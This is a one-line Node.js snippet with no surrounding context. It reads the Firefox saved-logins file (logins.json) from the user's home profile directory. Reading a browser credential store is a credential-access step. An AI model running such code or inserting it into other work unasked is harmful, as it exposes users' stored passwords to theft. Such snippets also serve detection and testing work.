require("fs").readFileSync(process.env.HOME + "/.mozilla/firefox/a.default/logins.json");
